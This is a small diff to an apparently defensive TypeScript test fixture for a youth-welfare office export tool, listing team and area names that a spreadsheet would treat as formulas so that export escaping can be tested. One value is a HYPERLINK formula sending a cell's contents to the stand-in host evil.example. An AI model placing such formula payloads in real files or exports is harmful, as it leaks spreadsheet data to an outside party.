@@ -1,7 +1,7 @@
 import { defaultRows, writeExportFile, type ExportRowValues } from '@jugendamt/ingest/testing';
 
 /** Team and social-area names as a careless or hostile office might type them: each a formula to a spreadsheet. */
-export const FORMULA_TEAMS = ['=HYPERLINK("https://evil.example/?q="&A1;"Bericht")', '+SUM(1;1)', '@Team Ost', '-2+3 Team'] as const;
+export const FORMULA_TEAMS = ['=HYPERLINK("https://evil.example/?q="&A1,"Bericht")', '+SUM(1,1)', '@Team Ost', '-2+3 Team'] as const;
 export const FORMULA_AREAS = ['=1+1', '-SR 02', '+SR 03', '@SR 04'] as const;
 
 /**
